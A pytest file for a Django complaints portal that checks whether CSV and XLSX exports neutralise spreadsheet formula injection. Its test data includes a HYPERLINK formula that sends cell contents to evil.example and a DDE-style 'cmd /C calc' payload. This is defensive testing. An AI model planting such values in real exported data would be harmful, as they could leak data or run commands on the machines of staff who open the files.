"""Every staff export goes through portal.outputs.exports: a citizen's text never becomes a live formula (issue 7.6)."""

import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from complaints.demo import ensure_categories
from portal.models import Role
from tests.portal.factories import staff

from .factories import make_complaint

pytestmark = pytest.mark.django_db

EVIL_VILLAGE = "=1+1"
EVIL_ADDRESS = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'


def _post(client, action, ids, model="complaint"):
    return client.post(reverse(f"admin:complaints_{model}_changelist"), {"action": action, "_selected_action": ids})


def test_complaint_exports_neutralise_formulas(org):
    cats = ensure_categories(org)
    complaint = make_complaint(org, cats["road"], village=EVIL_VILLAGE, address=EVIL_ADDRESS)
    client = Client()
    client.force_login(staff(org, Role.OFFICER))
    body = _post(client, "export_csv", [complaint.pk]).content.decode("utf-8-sig")
    assert "'" + EVIL_VILLAGE in body and ",=1+1" not in body
    sheet = load_workbook(io.BytesIO(_post(client, "export_xlsx", [complaint.pk]).content)).active
    values = [cell.value for cell in sheet[2]]
    assert "'" + EVIL_VILLAGE in values and "'" + EVIL_ADDRESS in values
    assert not any(cell.data_type == "f" for cell in sheet[2])


def test_corruption_report_export_is_neutralised(org):
    cats = ensure_categories(org)
    from complaints import services
    from complaints.models import Complaint

    complaint, _ = services.submit_corruption_report(
        organization=org, category=cats["corruption"], description="เรียกรับเงิน")
    Complaint.objects.filter(pk=complaint.pk).update(address="@SUM(1+1)*cmd|' /C calc'!A0")
    client = Client()
    client.force_login(staff(org, Role.LEGAL_OFFICER))
    body = _post(client, "export_csv", [complaint.pk], model="protectedcomplaint").content.decode("utf-8-sig")
    assert "'@SUM(1+1)" in body
